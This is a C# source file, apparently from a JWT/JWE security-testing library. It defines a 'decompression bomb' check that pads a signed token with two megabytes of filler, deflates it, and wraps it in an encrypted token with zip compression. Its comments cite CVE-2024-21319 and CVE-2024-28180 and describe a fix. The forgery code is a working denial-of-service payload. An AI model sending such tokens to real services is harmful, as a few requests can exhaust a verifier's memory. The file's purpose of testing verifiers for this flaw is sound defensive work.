using System.IO.Compression;
using System.Text;
using CryptoAssert.Jwt.Jose;

namespace CryptoAssert.Jwt.Attacks;

/// <summary>
/// Two megabytes that travel as a few kilobytes. The proof needs no clock: the inner token is genuine and padded with a claim, so
/// a verifier that accepts it has inflated all of it. CVE-2024-21319 (Microsoft.IdentityModel), CVE-2024-28180.
/// </summary>
internal sealed class DecompressionBomb : JweAttack
{
    private const int InflatedBytes = 2_000_000;

    public override string Id => "CRY1137";

    public override Severity Severity => Severity.High;

    public override IReadOnlyList<int> Cwe => [409];

    public override IReadOnlyList<string> References => ["rfc8725bis 3.15", "CVE-2024-21319", "CVE-2024-28180"];

    public override string Cause => "inflated a compressed token of a few kilobytes to two megabytes";

    public override string Why => "a handful of requests with the public key alone exhaust the memory of the service";

    public override string Fix => "refuse zip in tokens, or stop inflating at 250 KB as Microsoft.IdentityModel does from 7.1.2";

    private protected override Needs FurtherNeeds => Needs.IssuerKey;

    private protected override IEnumerable<Forgery> Forge(Attacker attacker, JweRecipient recipient)
    {
        var payload = attacker.Token.Payload;
        payload["padding"] = new string('A', InflatedBytes);
        var inner = Encoding.UTF8.GetBytes(attacker.Issuer!.Compact(attacker.Token.Header, payload));
        var deflated = new MemoryStream();
        using (var deflate = new DeflateStream(deflated, CompressionLevel.Optimal))
        {
            deflate.Write(inner);
        }

        var jwe = recipient.Encrypt(attacker, deflated.ToArray(), header => header["zip"] = "DEF");
        yield return new Forgery(jwe.ToString(), "zip DEF, 2 MB inflated");
    }
}
